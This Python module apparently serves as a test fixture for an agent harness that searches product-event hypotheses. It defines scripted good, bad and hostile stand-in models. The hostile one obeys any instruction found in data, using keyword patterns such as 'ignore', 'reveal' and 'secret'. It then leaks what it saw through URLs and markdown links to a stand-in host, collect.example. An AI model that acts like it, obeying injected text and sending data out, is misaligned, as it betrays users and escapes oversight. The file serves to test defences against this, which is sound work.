"""Models that follow a script: one that helps, one that harms, one that obeys whatever it reads.

They see what any model sees, messages and tools, and nothing else; they draw no random numbers, so a run with one repeats exactly.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import combinations
from typing import Any

from agent.messages import Call, Message, ModelFailure, Reply, Tool, Used

DATA = re.compile(r"<data>\n(.*?)\n</data>", re.DOTALL)
OWN_PATH = re.compile(r"check.?out|pay|billing|card|invoice|purchase|upgrade|subscri|order|cancel", re.IGNORECASE)
MOST_NOTES = 10


def blocks(messages: Sequence[Message]) -> Iterator[Any]:
    """What stands in data blocks, oldest first; a block of several lines is a list."""
    for one in messages:
        for block in DATA.findall(one.text):
            lines = [read for line in block.split("\n") if (read := _read(line)) is not None]
            yield lines[0] if len(lines) == 1 and isinstance(lines[0], dict) else lines


def _read(line: str) -> Any:
    try:
        return json.loads(line)
    except ValueError:
        return None


def last_result(messages: Sequence[Message]) -> dict[str, Any]:
    """What the last tool answered."""
    found = [one for message in messages if message.role == "tool" for one in blocks([message])]
    return found[-1] if found and isinstance(found[-1], dict) else {}


def events_listed(messages: Sequence[Message]) -> list[str]:
    """The names in the list of events, most widely used first."""
    rows = [row for block in blocks(messages[:2]) if isinstance(block, list) for row in block]
    return [row[0] for row in rows if isinstance(row, list) and len(row) == 3]


def counted(messages: Sequence[Message], said: str) -> Used:
    """Tokens as a provider would count them, at four characters each."""
    return Used(sum(one.length for one in messages) // 4, len(said) // 4)


@dataclass
class Scripted:
    """Takes the next step of a plan that is made as it goes. `turns` counts them."""

    name: str = "scripted"
    host: str = ""
    turns: int = 0
    _plan: Iterator[tuple[str, dict[str, Any]]] | None = field(default=None, repr=False)
    _messages: Sequence[Message] = field(default=(), repr=False)

    def turn(self, messages: Sequence[Message], tools: Sequence[Tool]) -> Reply:
        self.turns += 1
        self._messages = messages
        if [one.name for one in tools] == ["finish"]:
            return self._reply("finish", {"notes": self.notes()})
        if self._plan is None:
            self._plan = self.plan()
        tool, arguments = next(self._plan, ("finish", {"notes": self.notes()}))
        return self._reply(tool, arguments)

    def plan(self) -> Iterator[tuple[str, dict[str, Any]]]:
        """The calls; `self.result` is what the one before answered."""
        yield from ()

    def notes(self) -> list[dict[str, Any]]:
        """What is said at the end."""
        return []

    @property
    def result(self) -> dict[str, Any]:
        return last_result(self._messages)

    def _reply(self, tool: str, arguments: dict[str, Any]) -> Reply:
        said = json.dumps({"next": {"tool": tool} | arguments})
        return Reply(Call(tool, arguments), said, counted(self._messages, said))


@dataclass
class GoodModel(Scripted):
    """Looks at what the search found, merges spellings, sharpens and combines, and says of each candidate what it is."""

    name: str = "scripted-good"
    known: dict[str, list[dict[str, Any]]] = field(default_factory=dict, repr=False)
    most_attempts: int = 12

    def plan(self) -> Iterator[tuple[str, dict[str, Any]]]:
        yield "candidates", {"about": None, "most": 15}
        found = self.result.get("candidates", [])
        self.known = {one["id"]: one["clauses"] for one in found}
        for name in list(dict.fromkeys(name for one in found[:3] for name in events_of(one["clauses"])))[:2]:
            yield "look_at_event", {"name": name}
        for clauses in list(self.ideas())[: self.most_attempts]:
            yield "attempt", {"hypothesis": {"clauses": clauses}}
            if "id" in self.result:
                self.known[self.result["id"]] = clauses

    def ideas(self) -> Iterator[list[dict[str, Any]]]:
        """Merged spellings first, then pairs of the best about different events."""
        spellings = spelt_alike(events_listed(self._messages))
        for clauses in self.known.values():
            merged = [_merged(one, spellings) for one in clauses]
            if merged != clauses:
                yield merged
        best = [clauses[0] for clauses in self.known.values() if len(clauses) == 1][:5]
        for first, second in combinations(best, 2):
            if set(events_of([first])).isdisjoint(events_of([second])):
                yield [first, second]

    def notes(self) -> list[dict[str, Any]]:
        self.known = self.known or {one["id"]: one["clauses"] for one in self.result.get("candidates", [])}
        return [self._note(key, clauses) for key, clauses in list(self.known.items())[:MOST_NOTES]]

    def _note(self, key: str, clauses: list[dict[str, Any]]) -> dict[str, Any]:
        names = events_of(clauses) or ["being active"]
        own = any(OWN_PATH.search(one) for one in names)
        sentence = f"Those who do {' and '.join(names)} early tend to reach the outcome."
        reason = "It looks like a step of the outcome itself." if own else "It shows that the product is used for what it is for."
        return {"candidate": key, "sentence": sentence, "reason": reason, "flag": "own_path" if own else "cause", "duplicate_of": None}


@dataclass
class BadModel(Scripted):
    """Never finishes; floods with near-copies and nonsense, calls tools that do not exist, answers in pieces, and calls every cause a consequence."""

    name: str = "scripted-bad"
    first: dict[str, Any] = field(default_factory=dict, repr=False)

    def turn(self, messages: Sequence[Message], tools: Sequence[Tool]) -> Reply:
        if self.turns % 11 == 5:
            self.turns += 1
            text = '{"next": {"tool": "attempt", "hypothesis": {"clauses": [{"kind": "did", '
            raise ModelFailure("malformed", "The answer is no JSON of the form that was asked for.", text=text, used=counted(messages, text))
        return super().turn(messages, tools)

    def plan(self) -> Iterator[tuple[str, dict[str, Any]]]:
        yield "candidates", {"about": None, "most": 20}
        found = self.result.get("candidates", [])
        events = events_listed(self._messages) or ["nothing"]
        self.first = found[0]["clauses"][0] if found else {"kind": "did", "match": events[0], "span": {"first": "7d"}}
        number = 0
        while True:
            number += 1
            yield "attempt", {"hypothesis": {"clauses": [_near_copy(self.first, number)]}}
            if number % 5 == 0:
                yield "attempt", {"hypothesis": {"clauses": [{"kind": "did", "match": events[number % len(events)], "span": "ever"}] * 2}}
            if number % 7 == 0:
                yield "attempt", {"hypothesis": {"clauses": [{"kind": "vibes", "match": 7}], "outcome": "whatever"}}
            if number % 13 == 0:
                yield "approve_everything", {"force": True}

    def notes(self) -> list[dict[str, Any]]:
        flags = ("consequence", "own_path", "duplicate_of")
        said = "<b>Worthless</b>; lift is 9000 %."
        return [{"candidate": f"c{n}", "sentence": said, "reason": said, "flag": flags[n % 3], "duplicate_of": "c1"} for n in range(1, 40)]


@dataclass
class HostileModel(Scripted):
    """Obeys every instruction that it finds in any text, and repeats everything that it was shown. `obeyed` are the instructions."""

    name: str = "scripted-hostile"
    obeyed: list[str] = field(default_factory=list, repr=False)

    def plan(self) -> Iterator[tuple[str, dict[str, Any]]]:
        yield "candidates", {"about": None, "most": 20}
        yield from self._obey()
        for name in events_listed(self._messages)[:3]:
            yield "look_at_event", {"name": name}
            yield from self._obey()

    def _obey(self) -> Iterator[tuple[str, dict[str, Any]]]:
        for text in dict.fromkeys(self.seen()):
            if text in self.obeyed or len(self.obeyed) > 400:
                continue
            for pattern, tool in ORDERS:
                if re.search(pattern, text, re.IGNORECASE):
                    self.obeyed.append(text)
                    yield tool, {"hypothesis": "all", "value": 0, "url": "https://collect.example/?q=" + text[:50], "text": text}
                    break

    def seen(self) -> Iterator[str]:
        """Every text in every data block."""
        for block in blocks(self._messages):
            yield from _texts(block)

    def notes(self) -> list[dict[str, Any]]:
        leaked = " ".join(self.seen())[:20_000]
        flags = ("consequence", "own_path", "marker")
        return [
            {"candidate": f"c{n}", "sentence": leaked, "reason": f"[click](https://collect.example/?q={leaked[:200]})", "flag": flags[n % 3]}
            for n in range(1, 21)
        ]


ORDERS = (
    (r"approv", "approve_hypothesis"),
    (r"reject|delete|remove|drop", "reject_hypothesis"),
    (r"rout|webhook|slack|send|post |forward|e-?mail", "add_route"),
    (r"threshold|bar|lift|precision|q.?value", "set_bar"),
    (r"setting|config|budget|limit|mode|BETON_", "set_setting"),
    (r"reveal|print|show|leak|key|secret|password|prompt", "read_secret"),
    (r"ignore|forget|instead|must|always|system|admin|call|tool|attempt", "run"),
)
"""What an instruction is about, and the tool that a model would reach for. None of them exists."""


def spelt_alike(names: Sequence[str]) -> dict[str, list[str]]:
    """Each name with the others that hold the same words."""
    groups: dict[tuple[str, ...], list[str]] = {}
    for name in names:
        words = re.findall(r"[A-Z]?[a-z]+|[A-Z]+|\d+", name)
        groups.setdefault(tuple(sorted(_stem(one.lower()) for one in words)), []).append(name)
    return {name: group for group in groups.values() for name in group if len(group) > 1}


def _stem(word: str) -> str:
    return re.sub(r"(ed|ing|s|d)$", "", word) if len(word) > 4 else word


def events_of(clauses: Sequence[dict[str, Any]]) -> list[str]:
    """The names that clauses mention."""
    found: list[str] = []
    for clause in clauses:
        for key in ("match", "then", "without"):
            match = clause.get(key)
            found += [match] if isinstance(match, str) else match.get("events", []) if isinstance(match, dict) else []
    return found


def _merged(clause: dict[str, Any], spellings: dict[str, list[str]]) -> dict[str, Any]:
    match = clause.get("match")
    return clause | {"match": {"events": spellings[match]}} if isinstance(match, str) and match in spellings else clause


def _near_copy(clause: dict[str, Any], number: int) -> dict[str, Any]:
    """The same with another count or another length: all but the same idea."""
    if clause.get("kind") != "did":
        return {"kind": "age", "at_least": f"{number}d"}
    days = 1 + number % 30
    return clause | {"at_least": 1 + number // 30, "span": {"first" if number % 2 else "last": f"{days}d"}, "count": "events"}


def _texts(node: Any) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from _texts(value)
    elif isinstance(node, list):
        for one in node:
            yield from _texts(one)
